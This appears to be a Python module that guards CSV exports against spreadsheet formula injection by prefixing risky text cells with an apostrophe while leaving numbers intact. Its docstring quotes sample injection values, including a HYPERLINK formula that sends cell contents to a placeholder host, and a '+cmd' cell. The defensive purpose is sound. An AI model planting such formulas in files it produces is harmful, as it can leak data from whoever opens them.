"""Files that are safe to open in a spreadsheet.

A CSV cell whose text starts with ``=``, ``+``, ``-`` or ``@`` is run as a formula by Excel,
LibreOffice and Google Sheets when the file is opened (so is one starting with a tab or a
carriage return, which some of them strip first). Class names and ids come from the user's
file, so a file whose classes are called ``=HYPERLINK("http://x/?"&A1, "open")`` or ``+cmd``
would otherwise hand every reader of the exported decisions a live formula.

The defence is the one OWASP recommends: such a text cell gets a leading apostrophe, which every
spreadsheet reads as "this is text" and does not run. Numbers stay numbers: a numeric column is
never touched, and a text cell that is a plain number (``-0.25``, ``+3``, ``-1e-5``) is a number
to a spreadsheet, not a formula, so it is written as it is.
"""

from __future__ import annotations

import csv
import os
import re

import numpy as np
import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_cell", "neutralise_frame", "safe_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a text cell as a formula."""

# A number as a spreadsheet reads one: optional sign, digits with an optional decimal point,
# optional exponent. Nothing else (no operators, no parentheses), so "-1+2" or "-A1" is not one.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?\Z")


def neutralise_cell(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet would run it as a formula.

    >>> neutralise_cell("=SUM(A1:A9)"), neutralise_cell("-0.25"), neutralise_cell("cat")
    ("'=SUM(A1:A9)", '-0.25', 'cat')
    """
    if text and text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot run as formulas.

    Numeric and boolean columns are returned as they are; in text (and mixed object) columns
    every string cell goes through :func:`neutralise_cell`, other cells (numbers, missing) stay.
    """
    out = frame.copy(deep=False)
    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in frame.columns]
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if pd.api.types.is_numeric_dtype(column) or pd.api.types.is_bool_dtype(column):
            continue
        values = column.to_numpy(dtype=object, copy=True)
        text = np.fromiter((isinstance(v, str) for v in values), dtype=bool, count=len(values))
        if text.any():
            values[text] = [neutralise_cell(v) for v in values[text]]
        out.isetitem(position, pd.Series(values, index=frame.index, dtype=object))
    return out


def safe_csv(frame: pd.DataFrame, path: str | os.PathLike | None = None) -> str | None:
    """Write ``frame`` as CSV (no index) with :func:`neutralise_frame` applied.

    Returns the CSV text when ``path`` is None, else writes the file (UTF-8) and returns None.
    """
    safe = neutralise_frame(frame)
    # Python's csv writer quotes a field holding "\n" but not one holding a lone "\r", which
    # readers take for a line break (the row falls apart). When any text holds one, every text
    # cell is quoted; other files are written exactly as pandas writes them.
    quoting = csv.QUOTE_NONNUMERIC if _holds_carriage_return(safe) else csv.QUOTE_MINIMAL
    return safe.to_csv(path, index=False, quoting=quoting)


def _holds_carriage_return(frame: pd.DataFrame) -> bool:
    if any(isinstance(c, str) and "\r" in c for c in frame.columns):
        return True
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if column.dtype == object and any(isinstance(v, str) and "\r" in v for v in column):
            return True
    return False
